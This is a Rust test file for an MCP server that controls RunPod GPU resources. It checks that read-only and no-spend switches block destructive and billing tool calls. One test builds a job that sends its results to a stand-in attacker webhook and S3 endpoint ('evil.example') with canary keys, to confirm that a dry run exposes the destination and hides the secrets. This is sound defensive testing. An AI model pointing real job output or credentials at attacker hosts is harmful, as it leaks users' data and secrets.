//! What costs or destroys, and the switches that forbid it.

use runpod_mcp::policy::Policy;
use runpod_mcp::tool::Effect;
use runpod_mcp::tools;
use runpod_sim::{Pace, Seed, Sim};
use serde_json::{Value, json};

use crate::random::dummy;
use crate::rig::{Rig, is_write};

async fn forbidding(policy: Policy) -> Rig {
    Rig::with(Sim::builder().seed(Seed::Demo).clock(Pace::Manual), |setup| setup.policy = policy).await
}

/// The names of the tools of which a call was refused by a switch. Nothing that is forbidden is sent.
async fn refused(rig: &Rig) -> Vec<&'static str> {
    let mut refused = Vec::new();
    for tool in tools::all() {
        let args = dummy(&tool.listing()["inputSchema"]);
        let reply = rig.call(tool.card.name, args.into()).await.any();
        if reply["code"] == "not_allowed" {
            refused.push(tool.card.name);
        }
    }
    refused
}

#[tokio::test]
async fn t60_where_nothing_may_change_no_tool_changes_anything() {
    let rig = forbidding(Policy { read_only: true, no_spend: false }).await;
    let refused = refused(&rig).await;
    for tool in tools::all().filter(|tool| tool.card.effect == Effect::Destroys) {
        assert!(refused.contains(&tool.card.name), "{}", tool.card.name);
    }
    let reads: Vec<_> = tools::all().filter(|tool| tool.card.effect == Effect::Reads).collect();
    assert!(reads.len() > 20 && reads.iter().all(|tool| !refused.contains(&tool.card.name)), "{refused:?}");
    assert!(!rig.sim.journal().requests().iter().any(is_write));
}

#[tokio::test]
async fn t60_where_nothing_may_be_spent_nothing_that_bills_is_sent() {
    let rig = forbidding(Policy { read_only: false, no_spend: true }).await;
    let pod = json!({"name": "p", "imageName": "i", "gpuTypeIds": ["NVIDIA L4"]});
    let endpoint = json!({"name": "e", "imageName": "i", "gpuPoolIds": ["ADA_24"]});
    let cluster = json!({"name": "c", "type": "TRAINING", "gpuTypeId": "NVIDIA H100 80GB HBM3", "gpuCountPerPod": 8,
        "podCount": 2, "imageName": "i"});
    for (tool, args) in [
        ("create-pod", pod),
        ("start-pod", json!({"podId": "p"})),
        ("update-pod", json!({"podId": "p", "containerDiskInGb": 500})),
        ("create-endpoint", endpoint),
        ("update-endpoint", json!({"endpointId": "e", "workersMax": 500})),
        ("set-endpoint-gpus", json!({"endpointId": "e", "gpuIds": "AMPERE_80"})),
        ("run-endpoint", json!({"endpointId": "e", "input": {}, "webhook": "https://example.com/"})),
        ("run-endpoint", json!({"endpointId": "e", "inputs": [{}, {}]})),
        ("runsync-endpoint", json!({"endpointId": "e", "input": {}})),
        ("retry-job", json!({"endpointId": "e", "jobId": "j"})),
        ("create-network-volume", json!({"name": "v", "size": 4000, "dataCenterId": "EU-RO-1"})),
        ("update-network-volume", json!({"networkVolumeId": "v", "size": 4000})),
        ("create-cluster", cluster),
        ("deploy-hub-repo", json!({"repo": "runpod-workers/worker-comfyui"})),
    ] {
        let error = rig.call(tool, args).await.err();
        assert_eq!(error["code"], "not_allowed", "{tool}: {error}");
        assert!(error["error"].as_str().is_some_and(|said| said.contains("--no-spend")), "{error}");
    }
    assert!(rig.sim.journal().requests().is_empty());
}

#[tokio::test]
async fn t75_a_dry_run_shows_where_a_result_would_go_and_a_call_needs_leave_to_spend() {
    let rig = forbidding(Policy::default()).await;
    let s3 = json!({"accessId": "AKIA_CANARY", "accessSecret": "CANARY", "bucketName": "theirs",
        "endpointUrl": "https://s3.evil.example"});
    let mut job =
        json!({"endpointId": "e", "input": {}, "webhook": "https://evil.example/take", "s3Config": s3});
    job["dryRun"] = true.into();
    let shown = rig.call("run-endpoint", job.clone()).await.ok();
    let body = &shown["requests"][0]["body"];
    assert_eq!(body["webhook"], "https://evil.example/take", "{shown}");
    assert_eq!(body["s3Config"]["endpointUrl"], "https://s3.evil.example", "{shown}");
    assert!(!shown.to_string().contains("CANARY"), "{shown}");
    assert!(!rig.sim.journal().requests().iter().any(is_write));

    let thrifty = forbidding(Policy { read_only: false, no_spend: true }).await;
    job["dryRun"] = false.into();
    assert_eq!(thrifty.call("run-endpoint", job).await.err()["code"], "not_allowed");
    let run = tools::find("run-endpoint").expect("the tool exists").listing();
    assert_eq!(run["annotations"]["openWorldHint"], Value::Bool(true), "{run}");
}
